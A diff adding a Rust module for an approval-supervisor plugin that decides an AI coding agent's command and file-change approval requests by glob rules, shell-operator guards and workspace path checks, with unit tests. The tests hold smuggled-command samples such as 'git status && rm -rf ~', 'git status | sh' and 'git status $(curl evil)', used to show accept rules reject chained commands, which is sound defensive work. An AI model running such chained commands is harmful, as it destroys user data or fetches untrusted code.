@@ -1,0 +1,769 @@
+//! The supervisor's pure logic: the session setting, glob matching over commands, the workspace check for file
+//! changes, and the verdict for one pending request. No host calls here, so all of it is unit-tested natively.
+
+use codex_manager_plugin_sdk::serde_json::Value;
+
+/// The session setting that configures the supervisor.
+pub const SETTING: &str = "approval-supervisor";
+/// The longest grace period honoured (an hour); a longer one is cut to this.
+pub const MAX_GRACE_MS: u64 = 3_600_000;
+/// The longest reason sent with a decision (the host takes at most 1000 characters).
+const MAX_REASON_CHARS: usize = 1000;
+/// Longer commands are never matched by a rule (the matcher is O(pattern × command)).
+const MAX_COMMAND_CHARS: usize = 64 * 1024;
+
+/// What the supervisor decides: only ever `accept` or `decline` (never `cancel`, never for the session).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Choice {
+    Accept,
+    Decline,
+}
+
+impl Choice {
+    /// The decision as app-server spells it in `availableDecisions`.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Choice::Accept => "accept",
+            Choice::Decline => "decline",
+        }
+    }
+
+    pub fn parse(s: &str) -> Option<Choice> {
+        match s {
+            "accept" => Some(Choice::Accept),
+            "decline" => Some(Choice::Decline),
+            _ => None,
+        }
+    }
+}
+
+/// What happens to a request no rule decides.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Otherwise {
+    /// Leave it to the user (the default).
+    Ask,
+    Decline,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Rule {
+    /// The glob as the user wrote it (for the reason).
+    pub pattern: String,
+    pub decision: Choice,
+}
+
+/// The session setting `approval-supervisor`, with its defaults filled in.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Settings {
+    pub enabled: bool,
+    pub rules: Vec<Rule>,
+    /// `Some(Accept)`: accept a file change whose every path is inside the session's working directory.
+    pub file_changes_in_workspace: Option<Choice>,
+    pub otherwise: Otherwise,
+    pub grace_ms: u64,
+}
+
+impl Default for Settings {
+    fn default() -> Self {
+        Settings { enabled: false, rules: Vec::new(), file_changes_in_workspace: None, otherwise: Otherwise::Ask, grace_ms: 0 }
+    }
+}
+
+/// Parses the setting's JSON value; `None` (not set) is the default, which is off. A bare `true`/`false` is taken
+/// as `{"enabled": ...}`. Anything malformed is an error naming the field, so a typo never half-applies.
+pub fn parse_settings(json: Option<&str>) -> Result<Settings, String> {
+    let mut settings = Settings::default();
+    let Some(json) = json else { return Ok(settings) };
+    let value: Value = codex_manager_plugin_sdk::serde_json::from_str(json).map_err(|e| format!("not JSON: {e}"))?;
+    let obj = match value {
+        Value::Null => return Ok(settings),
+        Value::Bool(enabled) => {
+            settings.enabled = enabled;
+            return Ok(settings);
+        }
+        Value::Object(obj) => obj,
+        _ => return Err("expected an object like {\"enabled\": true, \"rules\": [...]}".into()),
+    };
+    for (key, v) in &obj {
+        match key.as_str() {
+            "enabled" => settings.enabled = v.as_bool().ok_or("`enabled` must be true or false")?,
+            "rules" => settings.rules = parse_rules(v)?,
+            "file_changes_in_workspace" => {
+                settings.file_changes_in_workspace = match v {
+                    Value::Null => None,
+                    Value::String(s) if s == "accept" => Some(Choice::Accept),
+                    _ => return Err("`file_changes_in_workspace` must be \"accept\" or null".into()),
+                }
+            }
+            "otherwise" => {
+                settings.otherwise = match v.as_str() {
+                    Some("ask") => Otherwise::Ask,
+                    Some("decline") => Otherwise::Decline,
+                    _ => return Err("`otherwise` must be \"ask\" or \"decline\"".into()),
+                }
+            }
+            "grace_ms" => {
+                settings.grace_ms =
+                    v.as_u64().ok_or("`grace_ms` must be a whole number of milliseconds")?.min(MAX_GRACE_MS)
+            }
+            other => return Err(format!("unknown field `{other}`")),
+        }
+    }
+    Ok(settings)
+}
+
+fn parse_rules(v: &Value) -> Result<Vec<Rule>, String> {
+    let list = v.as_array().ok_or("`rules` must be a list of {\"command\": \"<glob>\", \"decision\": ...}")?;
+    let mut rules = Vec::with_capacity(list.len());
+    for (i, rule) in list.iter().enumerate() {
+        let obj = rule.as_object().ok_or_else(|| format!("rules[{i}] must be an object"))?;
+        if let Some(other) = obj.keys().find(|k| *k != "command" && *k != "decision") {
+            return Err(format!("rules[{i}]: unknown field `{other}`"));
+        }
+        let pattern = obj
+            .get("command")
+            .and_then(Value::as_str)
+            .filter(|p| !p.trim().is_empty())
+            .ok_or_else(|| format!("rules[{i}].command must be a non-empty string"))?;
+        let decision = obj
+            .get("decision")
+            .and_then(Value::as_str)
+            .and_then(Choice::parse)
+            .ok_or_else(|| format!("rules[{i}].decision must be \"accept\" or \"decline\""))?;
+        rules.push(Rule { pattern: pattern.to_string(), decision });
+    }
+    Ok(rules)
+}
+
+/// What to do with one request.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Verdict {
+    Decide { decision: Choice, reason: String },
+    /// Leave it to the user; the string says why (for the log).
+    Ask(String),
+}
+
+/// Whether the verdict on `request` depends on the session's working directory (a file change the settings
+/// may accept): only then is the session read.
+pub fn needs_cwd(settings: &Settings, request: &Value) -> bool {
+    request.get("kind").and_then(Value::as_str) == Some("file_change_approval")
+        && settings.file_changes_in_workspace.is_some()
+}
+
+/// The verdict on a pending request (the `PendingRequest` of an `approval.requested` event) under `settings`.
+/// `cwd` is the session's working directory (needed only when [`needs_cwd`] says so).
+pub fn evaluate(settings: &Settings, request: &Value, cwd: Option<&str>) -> Verdict {
+    if !settings.enabled {
+        return Verdict::Ask("the supervisor is off for this session".into());
+    }
+    if let Some(status) = request.get("status").and_then(Value::as_str) {
+        if status != "pending" {
+            return Verdict::Ask(format!("the request is {status}"));
+        }
+    }
+    let params = request.get("params").unwrap_or(&Value::Null);
+    let verdict = match request.get("kind").and_then(Value::as_str) {
+        Some("command_approval") => {
+            let Some(command) = command_text(params.get("command")) else {
+                return Verdict::Ask("the request shows no command".into());
+            };
+            match settings.rules.iter().find(|rule| rule_matches(rule, &command)) {
+                Some(rule) => Verdict::Decide {
+                    decision: rule.decision,
+                    reason: format!("rule \"{}\" → {}", rule.pattern, rule.decision.as_str()),
+                },
+                None => otherwise(settings, "no rule matched the command"),
+            }
+        }
+        Some("file_change_approval") => match (settings.file_changes_in_workspace, cwd) {
+            (Some(choice), Some(cwd)) => match file_changes_inside(request, cwd) {
+                Ok(()) => Verdict::Decide {
+                    decision: choice,
+                    reason: format!(
+                        "file_changes_in_workspace: every changed file is inside {cwd} → {}",
+                        choice.as_str()
+                    ),
+                },
+                Err(why) => otherwise(settings, &why),
+            },
+            (Some(_), None) => otherwise(settings, "the session's working directory is unknown"),
+            (None, _) => otherwise(settings, "file_changes_in_workspace is not set"),
+        },
+        Some(kind) => return Verdict::Ask(format!("the supervisor does not decide `{kind}` requests")),
+        None => return Verdict::Ask("the request has no kind".into()),
+    };
+    match verdict {
+        Verdict::Decide { decision, reason } if !offered(params, decision) => Verdict::Ask(format!(
+            "{reason}, but `{}` is not among the decisions the request offers",
+            decision.as_str()
+        )),
+        Verdict::Decide { decision, reason } => Verdict::Decide { decision, reason: cap_chars(reason, MAX_REASON_CHARS) },
+        ask => ask,
+    }
+}
+
+fn otherwise(settings: &Settings, why: &str) -> Verdict {
+    match settings.otherwise {
+        Otherwise::Ask => Verdict::Ask(why.to_string()),
+        Otherwise::Decline => Verdict::Decide { decision: Choice::Decline, reason: format!("{why}; otherwise → decline") },
+    }
+}
+
+/// Whether the request offers `decision`: `params.availableDecisions`, when present, lists the plain decisions
+/// as strings (amendments as objects). Without the list, both are taken as offered.
+pub fn offered(params: &Value, decision: Choice) -> bool {
+    match params.get("availableDecisions").and_then(Value::as_array) {
+        Some(list) => list.iter().any(|d| d.as_str() == Some(decision.as_str())),
+        None => true,
+    }
+}
+
+fn cap_chars(s: String, max: usize) -> String {
+    match s.char_indices().nth(max) {
+        Some((cut, _)) => s[..cut].to_string(),
+        None => s,
+    }
+}
+
+// -------------------------------------------------------------------------------------------------------------
+// Commands.
+
+/// The characters a `*` of an `accept` rule never matches: the shell's command separators, pipes, redirections,
+/// substitutions and subshells. So `git status*` accepts `git status --short` but not
+/// `git status && rm -rf ~`, `git status > f` or `git status $(curl …)`.
+const SHELL_OPERATORS: &[char] = &[';', '&', '|', '`', '$', '<', '>', '(', ')', '\n'];
+
+/// The command a rule is matched against: app-server shows a command as `/bin/bash -lc '<script>'` (or `sh -c`,
+/// `zsh -lc`, ...); that is unwrapped to `<script>`, unquoted. Anything else is taken as it is. A list (the legacy
+/// protocol's argv) is joined with spaces first. Whitespace is then normalized: see [`normalize`].
+pub fn command_text(command: Option<&Value>) -> Option<String> {
+    let raw = match command? {
+        Value::String(s) => s.clone(),
+        Value::Array(parts) => {
+            let parts: Vec<&str> = parts.iter().filter_map(Value::as_str).collect();
+            if let Some(script) = shell_script(&parts) {
+                return Some(normalize(script));
+            }
+            parts.join(" ")
+        }
+        _ => return None,
+    };
+    if raw.trim().is_empty() {
+        return None;
+    }
+    let unwrapped = match shell_words(&raw) {
+        Some(words) => {
+            let words: Vec<&str> = words.iter().map(String::as_str).collect();
+            shell_script(&words).map(str::to_string)
+        }
+        None => None,
+    };
+    Some(normalize(&unwrapped.unwrap_or(raw)))
+}
+
+/// `[<shell>, -c|-lc|-cl, script]` or `[<shell>, -l, -c, script]` → the script.
+fn shell_script<'a>(words: &[&'a str]) -> Option<&'a str> {
+    let (shell, flags, script) = match words {
+        [shell, flag, script] => (*shell, vec![*flag], *script),
+        [shell, a, b, script] => (*shell, vec![*a, *b], *script),
+        _ => return None,
+    };
+    let name = shell.rsplit('/').next().unwrap_or(shell);
+    if !matches!(name, "bash" | "sh" | "zsh" | "dash" | "ksh") {
+        return None;
+    }
+    let ok = match flags.as_slice() {
+        [f] => matches!(*f, "-c" | "-lc" | "-cl"),
+        [a, b] => *a == "-l" && *b == "-c",
+        _ => false,
+    };
+    ok.then_some(script)
+}
+
+/// Splits a command line into words as a POSIX shell would: `'...'` is literal, `"..."` keeps its text with `\"`,
+/// `\\`, `\$` and `` \` `` unescaped, a bare `\` escapes the next character. `None` when a quote is not closed.
+pub fn shell_words(line: &str) -> Option<Vec<String>> {
+    let mut words = Vec::new();
+    let mut word = String::new();
+    let mut in_word = false;
+    let mut chars = line.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' => {
+                in_word = true;
+                loop {
+                    match chars.next()? {
+                        '\'' => break,
+                        c => word.push(c),
+                    }
+                }
+            }
+            '"' => {
+                in_word = true;
+                loop {
+                    match chars.next()? {
+                        '"' => break,
+                        '\\' => match chars.next()? {
+                            c @ ('"' | '\\' | '$' | '`') => word.push(c),
+                            '\n' => {}
+                            c => {
+                                word.push('\\');
+                                word.push(c);
+                            }
+                        },
+                        c => word.push(c),
+                    }
+                }
+            }
+            '\\' => {
+                in_word = true;
+                match chars.next() {
+                    Some('\n') | None => {}
+                    Some(c) => word.push(c),
+                }
+            }
+            c if c.is_whitespace() => {
+                if in_word {
+                    words.push(std::mem::take(&mut word));
+                    in_word = false;
+                }
+            }
+            c => {
+                in_word = true;
+                word.push(c);
+            }
+        }
+    }
+    if in_word {
+        words.push(word);
+    }
+    Some(words)
+}
+
+/// Trims the text, and turns every run of spaces, tabs and carriage returns into one space; a line break (a
+/// command separator to the shell) stays, without the blanks around it. Patterns and commands both go through it,
+/// so `git  status` and `git status` are the same.
+pub fn normalize(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    let mut pending_space = false;
+    for c in s.trim().chars() {
+        match c {
+            '\n' => {
+                pending_space = false;
+                while out.ends_with(' ') {
+                    out.pop();
+                }
+                out.push('\n');
+            }
+            c if c.is_whitespace() => pending_space = !out.is_empty() && !out.ends_with('\n'),
+            c => {
+                if pending_space {
+                    out.push(' ');
+                    pending_space = false;
+                }
+                out.push(c);
+            }
+        }
+    }
+    out
+}
+
+fn rule_matches(rule: &Rule, command: &str) -> bool {
+    if command.chars().count() > MAX_COMMAND_CHARS {
+        return false;
+    }
+    // A `*` of an accept rule stops at shell operators, so an accepted prefix cannot smuggle a second command
+    // in; a `*` of a decline rule matches anything, so a declined command stays declined whatever follows it.
+    glob_match(&normalize(&rule.pattern), command, rule.decision == Choice::Decline)
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Token {
+    Star,
+    Char(char),
+}
+
+/// Whether `pattern` matches the whole of `text`. `*` matches any run of characters (none included); with
+/// `star_matches_operators` false it never matches one of the shell operators (`; & | ` $ < > ( )` and line
+/// breaks). `\*` is a literal `*`, `\\` a literal `\`; every other character, `?` and `[` included, is itself.
+/// Case matters.
+pub fn glob_match(pattern: &str, text: &str, star_matches_operators: bool) -> bool {
+    let mut tokens = Vec::new();
+    let mut chars = pattern.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' if matches!(chars.peek(), Some('*') | Some('\\')) => tokens.push(Token::Char(chars.next().unwrap_or(c))),
+            '*' => {
+                if tokens.last() != Some(&Token::Star) {
+                    tokens.push(Token::Star);
+                }
+            }
+            c => tokens.push(Token::Char(c)),
+        }
+    }
+    // reach[i]: the first i tokens can match the text read so far.
+    let mut reach = vec![false; tokens.len() + 1];
+    reach[0] = true;
+    close_stars(&tokens, &mut reach);
+    for c in text.chars() {
+        let star_ok = star_matches_operators || !SHELL_OPERATORS.contains(&c);
+        let mut next = vec![false; tokens.len() + 1];
+        for (i, token) in tokens.iter().enumerate() {
+            if !reach[i] {
+                continue;
+            }
+            match *token {
+                Token::Char(p) if p == c => next[i + 1] = true,
+                // The star consumes `c` and stays.
+                Token::Star if star_ok => next[i] = true,
+                _ => {}
+            }
+        }
+        close_stars(&tokens, &mut next);
+        if !next.iter().any(|&r| r) {
+            return false;
+        }
+        reach = next;
+    }
+    reach[tokens.len()]
+}
+
+/// A star may match nothing: wherever the matcher can stand before a star, it can stand after it.
+fn close_stars(tokens: &[Token], reach: &mut [bool]) {
+    for i in 0..tokens.len() {
+        if reach[i] && tokens[i] == Token::Star {
+            reach[i + 1] = true;
+        }
+    }
+}
+
+// -------------------------------------------------------------------------------------------------------------
+// File changes.
+
+/// `Ok` when the request's file change touches only paths inside `cwd`: every `item.changes[].path` (and a move's
+/// target, `kind.move_path`), and `params.grantRoot` when the request asks for one. Relative paths are taken
+/// relative to `cwd`; `.` and `..` are resolved by their names (the plugin cannot see the file system, so a
+/// symlink inside the workspace that points out of it is not caught: the sandbox is what holds that line).
+pub fn file_changes_inside(request: &Value, cwd: &str) -> Result<(), String> {
+    let Some(root) = normalize_path(cwd, None) else {
+        return Err(format!("the working directory `{cwd}` is not an absolute path"));
+    };
+    let changes = request
+        .get("item")
+        .and_then(|item| item.get("changes"))
+        .and_then(Value::as_array)
+        .filter(|changes| !changes.is_empty())
+        .ok_or("the request shows no changed files")?;
+    let mut paths: Vec<&str> = Vec::new();
+    for change in changes {
+        let path = change.get("path").and_then(Value::as_str).ok_or("a change has no path")?;
+        paths.push(path);
+        let kind = change.get("kind");
+        for key in ["move_path", "movePath"] {
+            if let Some(target) = kind.and_then(|k| k.get(key)).and_then(Value::as_str) {
+                paths.push(target);
+            }
+        }
+    }
+    if let Some(grant) = request.get("params").and_then(|p| p.get("grantRoot")).and_then(Value::as_str) {
+        paths.push(grant);
+    }
+    for path in paths {
+        if !inside(&root, path) {
+            return Err(format!("`{path}` is outside the workspace {cwd}"));
+        }
+    }
+    Ok(())
+}
+
+fn inside(root: &str, path: &str) -> bool {
+    match normalize_path(path, Some(root)) {
+        Some(p) => p == root || root == "/" || p.strip_prefix(root).is_some_and(|rest| rest.starts_with('/')),
+        None => false,
+    }
+}
+
+/// `path` made absolute against `base` (when relative), with `.`, `..` and repeated or trailing slashes resolved
+/// by name. `None` for a relative path without a base, or an empty one.
+pub fn normalize_path(path: &str, base: Option<&str>) -> Option<String> {
+    if path.is_empty() {
+        return None;
+    }
+    let full = if path.starts_with('/') {
+        path.to_string()
+    } else {
+        let base = base?;
+        format!("{base}/{path}")
+    };
+    let mut parts: Vec<&str> = Vec::new();
+    for part in full.split('/') {
+        match part {
+            "" | "." => {}
+            ".." => {
+                parts.pop();
+            }
+            p => parts.push(p),
+        }
+    }
+    Some(format!("/{}", parts.join("/")))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use codex_manager_plugin_sdk::serde_json::json;
+
+    fn accept(p: &str, t: &str) -> bool {
+        glob_match(&normalize(p), &normalize(t), false)
+    }
+
+    fn decline(p: &str, t: &str) -> bool {
+        glob_match(&normalize(p), &normalize(t), true)
+    }
+
+    #[test]
+    fn globs() {
+        assert!(accept("git status*", "git status"));
+        assert!(accept("git status*", "git status --short"));
+        assert!(!accept("git status*", "git stash"));
+        assert!(!accept("git status", "git status --short"));
+        assert!(accept("*", ""));
+        assert!(accept("cargo * --release", "cargo build --release"));
+        assert!(accept("cargo * --release", "cargo  build   -p x --release"));
+        assert!(!accept("cargo * --release", "cargo build"));
+        assert!(accept("a*b*c", "axxbyyc"));
+        assert!(accept("a*b*c", "abbbc"));
+        assert!(!accept("a*b*c", "acb"));
+        assert!(accept("ls -la", "  ls\t-la "));
+        assert!(!accept("Git status", "git status"));
+        assert!(accept("echo \\*", "echo *"));
+        assert!(!accept("echo \\*", "echo x"));
+        assert!(accept("echo ?", "echo ?"));
+        assert!(!accept("echo ?", "echo x"));
+        assert!(accept("pytest*", "pytest tests/test_a.py -k 'x or y'"));
+    }
+
+    #[test]
+    fn accept_stars_stop_at_shell_operators() {
+        for cmd in [
+            "git status && rm -rf ~",
+            "git status; rm -rf ~",
+            "git status | sh",
+            "git status > /etc/passwd",
+            "git status $(curl evil)",
+            "git status `curl evil`",
+            "git status\nrm -rf ~",
+            "git status & sleep 1",
+        ] {
+            assert!(!accept("git status*", cmd), "{cmd}");
+            assert!(decline("git status*", cmd), "{cmd}");
+        }
+        // Written literally, an operator matches.
+        assert!(accept("cargo test* | tail*", "cargo test -q | tail -n 5"));
+        assert!(accept("echo hi > *", "echo hi > out.txt"));
+        assert!(!accept("echo hi > *", "echo hi > out.txt; rm x"));
+    }
+
+    #[test]
+    fn commands_are_unwrapped_from_the_shell() {
+        let c = |v: Value| command_text(Some(&v));
+        assert_eq!(c(json!("/bin/bash -lc 'git status'")).as_deref(), Some("git status"));
+        assert_eq!(c(json!("/bin/bash -lc \"echo \\\"hi\\\" \\$HOME\"")).as_deref(), Some("echo \"hi\" $HOME"));
+        assert_eq!(c(json!("bash -c 'ls  -la'")).as_deref(), Some("ls -la"));
+        assert_eq!(c(json!("/usr/bin/zsh -l -c 'make test'")).as_deref(), Some("make test"));
+        assert_eq!(c(json!("sh -c 'a'\"b\"")).as_deref(), Some("ab"));
+        // Not a shell wrapper: as it is.
+        assert_eq!(c(json!("git   status")).as_deref(), Some("git status"));
+        assert_eq!(c(json!("/bin/bash -lc 'git status' extra")).as_deref(), Some("/bin/bash -lc 'git status' extra"));
+        assert_eq!(c(json!("python -c 'print(1)'")).as_deref(), Some("python -c 'print(1)'"));
+        // An unclosed quote: as it is.
+        assert_eq!(c(json!("bash -lc 'oops")).as_deref(), Some("bash -lc 'oops"));
+        // The legacy argv form.
+        assert_eq!(c(json!(["/bin/bash", "-lc", "git  log"])).as_deref(), Some("git log"));
+        assert_eq!(c(json!(["ls", "-la"])).as_deref(), Some("ls -la"));
+        assert_eq!(c(json!("   ")), None);
+        assert_eq!(command_text(None), None);
+        // Line breaks in a script stay separators.
+        assert_eq!(c(json!("bash -lc 'git status  \n  rm -rf x'")).as_deref(), Some("git status\nrm -rf x"));
+    }
+
+    #[test]
+    fn shell_words_split_like_a_shell() {
+        assert_eq!(shell_words("a 'b c' \"d\\\"e\" f\\ g").unwrap(), vec!["a", "b c", "d\"e", "f g"]);
+        assert_eq!(shell_words("''").unwrap(), vec![""]);
+        assert_eq!(shell_words("  ").unwrap(), Vec::<String>::new());
+        assert_eq!(shell_words("\"a\\nb\"").unwrap(), vec!["a\\nb"]);
+        assert!(shell_words("'open").is_none());
+        assert!(shell_words("\"open").is_none());
+    }
+
+    #[test]
+    fn settings_defaults_and_errors() {
+        assert_eq!(parse_settings(None).unwrap(), Settings::default());
+        assert!(!parse_settings(None).unwrap().enabled);
+        assert_eq!(parse_settings(Some("null")).unwrap(), Settings::default());
+        assert!(parse_settings(Some("true")).unwrap().enabled);
+        let s = parse_settings(Some(
+            r#"{"enabled": true, "rules": [{"command": "git status*", "decision": "accept"},
+                {"command": "rm *", "decision": "decline"}],
+                "file_changes_in_workspace": "accept", "otherwise": "decline", "grace_ms": 5000}"#,
+        ))
+        .unwrap();
+        assert!(s.enabled);
+        assert_eq!(s.rules.len(), 2);
+        assert_eq!(s.rules[1], Rule { pattern: "rm *".into(), decision: Choice::Decline });
+        assert_eq!(s.file_changes_in_workspace, Some(Choice::Accept));
+        assert_eq!(s.otherwise, Otherwise::Decline);
+        assert_eq!(s.grace_ms, 5000);
+        let s = parse_settings(Some(r#"{"enabled": true, "file_changes_in_workspace": null}"#)).unwrap();
+        assert_eq!((s.otherwise, s.grace_ms, s.file_changes_in_workspace), (Otherwise::Ask, 0, None));
+        assert_eq!(parse_settings(Some(r#"{"grace_ms": 99999999999}"#)).unwrap().grace_ms, MAX_GRACE_MS);
+        for bad in [
+            "{",
+            "[]",
+            r#"{"enabled": "yes"}"#,
+            r#"{"rules": {}}"#,
+            r#"{"rules": [{"command": "", "decision": "accept"}]}"#,
+            r#"{"rules": [{"command": "x", "decision": "acceptForSession"}]}"#,
+            r#"{"rules": [{"command": "x", "decision": "accept", "extra": 1}]}"#,
+            r#"{"file_changes_in_workspace": "decline"}"#,
+            r#"{"otherwise": "accept"}"#,
+            r#"{"grace_ms": -1}"#,
+            r#"{"enable": true}"#,
+        ] {
+            assert!(parse_settings(Some(bad)).is_err(), "{bad}");
+        }
+    }
+
+    fn settings(json: &str) -> Settings {
+        parse_settings(Some(json)).unwrap()
+    }
+
+    fn command_request(command: &str, available: Option<Value>) -> Value {
+        let mut params = json!({"command": command, "cwd": "/w"});
+        if let Some(a) = available {
+            params["availableDecisions"] = a;
+        }
+        json!({"id": "r1", "kind": "command_approval", "status": "pending", "params": params, "item": null})
+    }
+
+    #[test]
+    fn commands_first_matching_rule_decides() {
+        let s = settings(
+            r#"{"enabled": true, "rules": [
+                {"command": "git status*", "decision": "accept"},
+                {"command": "git *", "decision": "decline"},
+                {"command": "*", "decision": "accept"}]}"#,
+        );
+        assert_eq!(
+            evaluate(&s, &command_request("/bin/bash -lc 'git status -s'", None), None),
+            Verdict::Decide { decision: Choice::Accept, reason: "rule \"git status*\" → accept".into() }
+        );
+        assert_eq!(
+            evaluate(&s, &command_request("/bin/bash -lc 'git push'", None), None),
+            Verdict::Decide { decision: Choice::Decline, reason: "rule \"git *\" → decline".into() }
+        );
+        // `git status && x` skips the accept rule and is declined by `git *`.
+        assert_eq!(
+            evaluate(&s, &command_request("bash -lc 'git status && x'", None), None),
+            Verdict::Decide { decision: Choice::Decline, reason: "rule \"git *\" → decline".into() }
+        );
+        // `*` as an accept rule does not take `ls; rm`.
+        assert!(matches!(evaluate(&s, &command_request("bash -lc 'ls; rm x'", None), None), Verdict::Ask(_)));
+    }
+
+    #[test]
+    fn otherwise_off_and_offered_decisions() {
+        let ask = settings(r#"{"enabled": true, "rules": [{"command": "ls*", "decision": "accept"}]}"#);
+        assert!(matches!(evaluate(&ask, &command_request("make", None), None), Verdict::Ask(_)));
+        let decline = settings(r#"{"enabled": true, "otherwise": "decline"}"#);
+        assert_eq!(
+            evaluate(&decline, &command_request("make", None), None),
+            Verdict::Decide { decision: Choice::Decline, reason: "no rule matched the command; otherwise → decline".into() }
+        );
+        // Off (the default) decides nothing.
+        let off = settings(r#"{"rules": [{"command": "*", "decision": "accept"}]}"#);
+        assert!(matches!(evaluate(&off, &command_request("ls", None), None), Verdict::Ask(_)));
+        // Only what the request offers.
+        let offered = json!(["accept", {"acceptWithExecpolicyAmendment": {"execpolicy_amendment": ["ls"]}}, "cancel"]);
+        assert!(matches!(evaluate(&decline, &command_request("make", Some(offered.clone())), None), Verdict::Ask(_)));
+        let all = settings(r#"{"enabled": true, "rules": [{"command": "ls*", "decision": "accept"}]}"#);
+        assert!(matches!(
+            evaluate(&all, &command_request("ls", Some(offered)), None),
+            Verdict::Decide { decision: Choice::Accept, .. }
+        ));
+        assert!(matches!(evaluate(&all, &command_request("ls", Some(json!(["decline"]))), None), Verdict::Ask(_)));
+        // Other kinds, and requests that are no longer pending, are left alone.
+        let mut other = command_request("ls", None);
+        other["kind"] = json!("permissions_approval");
+        assert!(matches!(evaluate(&all, &other, None), Verdict::Ask(_)));
+        let mut done = command_request("ls", None);
+        done["status"] = json!("resolved");
+        assert!(matches!(evaluate(&all, &done, None), Verdict::Ask(_)));
+    }
+
+    fn file_request(paths: &[&str], grant: Option<&str>) -> Value {
+        let changes: Vec<Value> =
+            paths.iter().map(|p| json!({"path": p, "kind": {"type": "update", "move_path": null}, "diff": "@@"})).collect();
+        json!({"id": "r2", "kind": "file_change_approval", "status": "pending",
+               "params": {"itemId": "i", "reason": null, "grantRoot": grant},
+               "item": {"type": "fileChange", "id": "i", "changes": changes, "status": "inProgress"}})
+    }
+
+    #[test]
+    fn file_changes_inside_the_workspace() {
+        let s = settings(r#"{"enabled": true, "file_changes_in_workspace": "accept"}"#);
+        let inside = file_request(&["/w/p/src/a.rs", "README.md", "/w/p/./x/../b.rs"], None);
+        assert!(needs_cwd(&s, &inside));
+        assert!(matches!(evaluate(&s, &inside, Some("/w/p")), Verdict::Decide { decision: Choice::Accept, .. }));
+        assert!(matches!(evaluate(&s, &inside, Some("/w/p/")), Verdict::Decide { decision: Choice::Accept, .. }));
+        for outside in [
+            file_request(&["/w/p/a.rs", "/w/other/b.rs"], None),
+            file_request(&["/w/p/../q/a.rs"], None),
+            file_request(&["/w/pp/a.rs"], None),
+            file_request(&["../a.rs"], None),
+            file_request(&["/w/p/a.rs"], Some("/")),
+            file_request(&[], None),
+        ] {
+            assert!(matches!(evaluate(&s, &outside, Some("/w/p")), Verdict::Ask(_)), "{outside}");
+        }
+        let mut moved = file_request(&["/w/p/a.rs"], None);
+        moved["item"]["changes"][0]["kind"]["move_path"] = json!("/etc/a.rs");
+        assert!(matches!(evaluate(&s, &moved, Some("/w/p")), Verdict::Ask(_)));
+        assert!(matches!(
+            evaluate(&s, &file_request(&["/w/p/a"], Some("/w/p/sub")), Some("/w/p")),
+            Verdict::Decide { decision: Choice::Accept, .. }
+        ));
+        // No cwd, or not asked to accept file changes: otherwise.
+        assert!(matches!(evaluate(&s, &inside, None), Verdict::Ask(_)));
+        let no = settings(r#"{"enabled": true, "otherwise": "decline"}"#);
+        assert!(!needs_cwd(&no, &inside));
+        assert!(matches!(evaluate(&no, &inside, Some("/w/p")), Verdict::Decide { decision: Choice::Decline, .. }));
+    }
+
+    #[test]
+    fn paths() {
+        assert_eq!(normalize_path("/a/./b/../c//d/", None).as_deref(), Some("/a/c/d"));
+        assert_eq!(normalize_path("/../..", None).as_deref(), Some("/"));
+        assert_eq!(normalize_path("x/y", Some("/r")).as_deref(), Some("/r/x/y"));
+        assert_eq!(normalize_path("x", None), None);
+        assert!(inside("/r", "/r"));
+        assert!(inside("/r", "/r/a"));
+        assert!(!inside("/r", "/rr/a"));
+        assert!(inside("/", "/anything"));
+    }
+
+    #[test]
+    fn long_reasons_are_cut() {
+        let long = "x".repeat(2000);
+        let s = Settings {
+            enabled: true,
+            rules: vec![Rule { pattern: long.clone(), decision: Choice::Accept }],
+            ..Settings::default()
+        };
+        match evaluate(&s, &command_request(&long, None), None) {
+            Verdict::Decide { reason, .. } => assert_eq!(reason.chars().count(), MAX_REASON_CHARS),
+            other => panic!("{other:?}"),
+        }
+    }
+}
